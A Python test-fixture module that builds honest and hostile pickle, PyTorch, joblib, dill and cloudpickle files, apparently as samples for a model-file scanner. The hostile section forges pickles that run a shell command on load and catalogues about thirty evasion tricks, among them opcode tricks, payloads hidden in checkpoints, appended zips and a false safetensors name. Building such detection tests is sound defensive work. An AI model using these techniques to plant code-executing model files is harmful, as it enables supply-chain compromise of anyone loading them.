"""Pickles by themselves, in torch's and joblib's files, and of dill and cloudpickle: what writers make, and tricks.

A payload writes `MARKER` when the real loader runs it; `loads` is that loader.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import bypass_containers as boxes
import bypass_tricks as tricks
from pickle_forge import (
    BINPERSID,
    EMPTY_DICT,
    MARK,
    NONE,
    OBJ,
    POP,
    PROTO4,
    REDUCE,
    STACK_GLOBAL,
    TUPLE1,
    call,
    literal,
    name,
    number,
    program,
    raw,
    stack_name,
    text,
)

from sample_set import COMMAND, MARKER, Sample, written

RUN = call(name("os", "system"), text(COMMAND))
GOOD = program(literal({"a": 1}))

# --- honest


def plain() -> dict[str, Any]:
    return {"weights": [0.5, -1.25, 3.0], "name": "a model", "layers": (2, 3), "bias": None, "on": {True, False}}


def python_2() -> bytes:
    """As Python 2.7 writes `{'name': 'caf\\xe9', 'w': [1, 2L]}` by default: its strings are bytes, in quotes."""
    return b"(dp0\nS'name'\np1\nS'caf\\xe9'\np2\nsS'w'\np3\n(lp4\nI1\naL2L\nas."


def arrays() -> dict[str, Any]:
    import numpy as np

    return {"w": np.arange(12.0).reshape(3, 4), "i": np.arange(5), "s": np.float32(1.5), "t": np.array(["a", "bc"])}


def frame() -> Any:
    import pandas as pd

    return pd.DataFrame({"x": [1.0, 2.0], "y": ["a", "b"]}, index=pd.Index([3, 4], name="n"))


def pipeline() -> Any:
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.array([[0.0], [1.0], [2.0], [3.0]])
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(x, [0, 0, 1, 1])


def tensors() -> dict[str, Any]:
    import torch

    return {"w": torch.arange(6.0).reshape(2, 3), "b": torch.zeros(2, dtype=torch.float16)}


def pickled(make: Callable[[], Any], protocol: int = 4) -> Callable[[], bytes]:
    return lambda: pickle.dumps(make(), protocol)


def by_torch(make: Callable[[], Any], *, old: bool = False) -> Callable[[], bytes]:
    def build() -> bytes:
        import torch

        out = io.BytesIO()
        torch.save(make(), out, _use_new_zipfile_serialization=not old)
        return out.getvalue()

    return build


def by_joblib(make: Callable[[], Any], compress: Any = 0) -> Callable[[], bytes]:
    def build() -> bytes:
        import joblib

        out = io.BytesIO()
        joblib.dump(make(), out, compress=compress)
        return out.getvalue()

    return build


@cache
def by_dill(what: str = "{'weights': [0.5, -1.25], 'name': 'a model', 'layers': (2, 3)}") -> bytes:
    """In a process of its own: importing dill changes how every pickler of the process writes."""
    code = f"import dill, sys; sys.stdout.buffer.write(dill.dumps({what}, recurse=True))"
    return subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, check=True, timeout=60).stdout


def by_cloudpickle() -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps(plain()))


# --- hostile


def memo_order() -> bytes:
    return tricks.memo_order().replace(b"Vtrue", b"V" + COMMAND.encode())


def inst() -> bytes:
    return MARK + text(COMMAND) + b"ios\nsystem\n."


def thrown_away() -> bytes:
    return program(MARK, stack_name("os", "system"), text(COMMAND), OBJ, POP, NONE, proto=PROTO4)


def methodcaller() -> bytes:
    caller = call(name("operator", "methodcaller"), text("system"), text(COMMAND))
    return program(call(caller, call(name("importlib", "import_module"), text("os"))))


def resolved() -> bytes:
    return program(call(call(name("pkgutil", "resolve_name"), text("os:system")), text(COMMAND)))


def python_2_name() -> bytes:
    return program(call(name("commands", "getoutput"), text(COMMAND)))


def broken_behind() -> bytes:
    return b"\x80\x02" + RUN + b"X."


def marshalled() -> bytes:
    code = compile(f"open({MARKER!r}, 'w').close()", "x", "exec")
    names = call(name("builtins", "vars"), call(name("builtins", "__import__"), text("builtins")))
    unmarshalled = call(name("marshal", "loads"), raw(marshal.dumps(code)))
    return program(call(call(name("types", "FunctionType"), unmarshalled, names)))


def extension() -> bytes:
    code = 0x7A7A
    given = call(name("copyreg", "add_extension"), text("os"), text("system"), number(code)) + POP
    return program(given, b"\x83" + struct.pack("<H", code), text(COMMAND), TUPLE1, REDUCE)


def through_a_module() -> bytes:
    return program(call(stack_name("shutil", "os.system"), text(COMMAND)), proto=PROTO4)


def nested() -> bytes:
    return program(call(name("torch.storage", "_load_from_bytes"), raw(boxes.legacy(fourth=program(RUN)))))


def partial() -> bytes:
    return program(call(call(name("functools", "partial"), name("os", "system"), text(COMMAND))))


def mapped() -> bytes:
    return program(
        call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), literal([COMMAND])))
    )


def in_a_key() -> bytes:
    return program(EMPTY_DICT, RUN, NONE, b"s")


def computed() -> bytes:
    made = call(name("builtins", "str"), text("os"))
    return program(made, text("system"), STACK_GLOBAL, text(COMMAND), TUPLE1, REDUCE, proto=PROTO4)


def zip_behind() -> bytes:
    return program(RUN) + boxes.zipped(("readme.txt", b"harmless"))


def joblib_objects() -> bytes:
    """A program for the array of objects, where joblib's own was."""
    data = by_joblib(lambda: {"o": _objects()})()
    at = data.index(b"\x8c\x04here")
    return data[:at] + program(RUN, proto=PROTO4)[2:-1] + data[at + 6 :]


def _objects() -> Any:
    import numpy as np

    return np.array([None, "here"], dtype=object)


def joblib_packed() -> bytes:
    return zlib.compress(program(RUN))


def joblib_cut() -> bytes:
    data = by_joblib(arrays)()
    return data[: len(data) * 2 // 3]


def dill_function() -> bytes:
    return by_dill("lambda x: x + 1")


def cloudpickle_function() -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps(lambda x: x + 1))


def loader(module: str, function: str, **how: Any) -> Callable[[Path], None]:
    """The real loader; what it says when it breaks off behind the payload is not asked."""

    def load(place: Path) -> None:
        import contextlib
        import importlib

        with contextlib.suppress(Exception), place.open("rb") as file:
            getattr(importlib.import_module(module), function)(file, **how)

    return load


def twice(place: Path) -> None:
    with place.open("rb") as file:
        pickle.load(file)
        pickle.load(file)


PICKLE, TORCH, JOBLIB = loader("pickle", "load"), loader("torch", "load", weights_only=False), loader("joblib", "load")


def _honest(what: str, format: str, file: str, data: Callable[[], bytes], *needs: str, review: bool = False) -> Sample:
    verdicts = ("review",) if review else ("safe",)
    return Sample(what, format, written(file, data), verdicts, honest=True, needs=needs)


def _hostile(
    what: str, file: str, data: Callable[[], bytes], trick: str, load: Callable[[Path], None] | None = PICKLE,
    *needs: str, format: str = "pickle", verdict: str = "danger", rule: str = "",
) -> Sample:  # fmt: skip
    return Sample(what, format, written(file, data), (verdict,), rule=rule, trick=trick, needs=needs, loads=load)


SAMPLES = (
    *[_honest(f"pickle/plain-protocol-{p}", "pickle", "m.pkl", pickled(plain, p)) for p in (0, 2, 4, 5)],
    _honest("pickle/python-2", "pickle", "m.p", python_2),
    _honest("pickle/arrays", "pickle", "m.pickle", pickled(arrays), "numpy"),
    _honest("pickle/frame", "pickle", "m.pkl", pickled(frame), "pandas"),
    _honest("pickle/pipeline", "pickle", "m.pkl", pickled(pipeline, 5), "sklearn", review=True),
    _honest("pickle/several", "pickle", "m.pkl", lambda: GOOD + pickle.dumps("two") + pickle.dumps(3)),
    _honest("dill/plain", "pickle", "m.dill", by_dill, "dill"),
    _honest("cloudpickle/plain", "pickle", "m.pkl", by_cloudpickle, "cloudpickle"),
    _honest("torch-zip/state", "torch-zip", "m.pt", by_torch(tensors), "torch"),
    _honest("torch-legacy/state", "torch-legacy", "m.pth", by_torch(tensors, old=True), "torch"),
    _honest("joblib/arrays", "joblib", "m.joblib", by_joblib(arrays), "joblib", "numpy"),
    _honest("joblib/objects", "joblib", "m.joblib", by_joblib(lambda: {"o": _objects()}), "joblib", "numpy"),
    _honest("joblib/zlib", "joblib", "m.joblib", by_joblib(arrays, 3), "joblib", "numpy"),
    _honest("joblib/pipeline", "joblib", "m.joblib", by_joblib(pipeline), "joblib", "sklearn", review=True),
    _hostile("pickle/shell", "m.pkl", lambda: program(RUN), "A shell command by REDUCE."),
    _hostile("pickle/memo-order", "m.pkl", memo_order, "The names come out of the memo in another order."),
    _hostile("pickle/inst", "m.pkl", inst, "The call is made by the opcode INST of protocol 0."),
    _hostile("pickle/thrown-away", "m.pkl", thrown_away, "OBJ calls, POP throws the result away."),
    _hostile("pickle/methodcaller", "m.pkl", methodcaller, "A module by its name and a method of it by another text."),
    _hostile("pickle/resolved", "m.pkl", resolved, "pkgutil turns a text into the function."),
    _hostile("pickle/python-2-name", "m.pkl", python_2_name, "A module's name of Python 2, which means subprocess."),
    _hostile("pickle/broken-behind", "m.pkl", broken_behind, "It breaks off behind the payload."),
    _hostile("pickle/marshalled", "m.pkl", marshalled, "A function out of marshalled byte code."),
    _hostile("pickle/extension", "m.pkl", extension, "The function is named by a number of the extension registry."),
    _hostile("pickle/through-a-module", "m.pkl", through_a_module, "A dotted name walks through a module."),
    _hostile("pickle/nested", "m.pkl", nested, "An old checkpoint lies in bytes that torch loads.", PICKLE, "torch"),
    _hostile("pickle/partial", "m.pkl", partial, "A partial application of the shell, called."),
    _hostile("pickle/mapped", "m.pkl", mapped, "map calls the shell for each item of a list."),
    _hostile("pickle/in-a-key", "m.pkl", in_a_key, "The payload is the key of a dictionary."),
    _hostile("pickle/second", "m.pkl", lambda: GOOD + program(RUN), "The second of two pickles.", twice),
    _hostile("pickle/zip-behind", "m.pkl", zip_behind, "A zip at its end makes other readers take it for an archive."),
    _hostile("pickle/extension-lies", "m.safetensors", lambda: program(RUN), "It is called safetensors."),
    _hostile(
        "pickle/computed-name", "m.pkl", computed, "The module's name is made by a call.",
        verdict="unverifiable", rule="pickle.unreadable",
    ),
    _hostile(
        "pickle/cut-off", "m.pkl", lambda: pickle.dumps(plain())[:-9], "It breaks off.", None, verdict="unverifiable",
    ),
    _hostile(
        "pickle/persistent", "m.pkl", lambda: program(text("x"), BINPERSID), "It may stand for anything.",
        None, verdict="unverifiable", rule="pickle.persistent-id",
    ),
    _hostile("dill/function", "m.dill", dill_function, "A function comes along as byte code.", None, "dill"),
    _hostile("cloudpickle/function", "m.pkl", cloudpickle_function, "The same by cloudpickle.", None, "cloudpickle"),
    _hostile(
        "torch-zip/program", "m.pt", lambda: boxes.checkpoint(program(RUN)), "Its program calls the shell.",
        TORCH, "torch", format="torch-zip",
    ),
    _hostile(
        "torch-zip/flags", "m.pt", lambda: boxes.zip_flags(program(RUN)),
        "Flag bits stop Python's zipfile, not PyTorch.", None, format="torch-zip",
    ),
    _hostile(
        "torch-legacy/object", "m.pth", lambda: boxes.legacy(fourth=program(RUN)), "The fourth of five pickles.",
        TORCH, "torch", format="torch-legacy",
    ),
    _hostile(
        "torch-legacy/system", "m.pth",
        lambda: by_torch(tensors, old=True)().replace(pickle.dumps(1001, 2), program(RUN), 1),
        "The second pickle, which only says the version.", TORCH, "torch", format="torch-legacy",
    ),
    _hostile(
        "torch-legacy/computed-magic", "m.pth",
        lambda: program(RUN, b"0\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19") + boxes.legacy()[len(boxes.MAGIC) :],
        "The magic number comes behind a call.", TORCH, "torch", format="torch-legacy",
    ),
    _hostile(
        "joblib/objects-program", "m.joblib", joblib_objects, "In an array of objects.", JOBLIB, "joblib",
        format="joblib",
    ),
    _hostile("joblib/packed", "m.joblib", joblib_packed, "Compressed as joblib does.", JOBLIB, "joblib"),
    _hostile(
        "joblib/cut-off", "m.joblib", joblib_cut, "It breaks off in an array.", None, "joblib", "numpy",
        format="joblib", verdict="unverifiable",
    ),
)  # fmt: skip
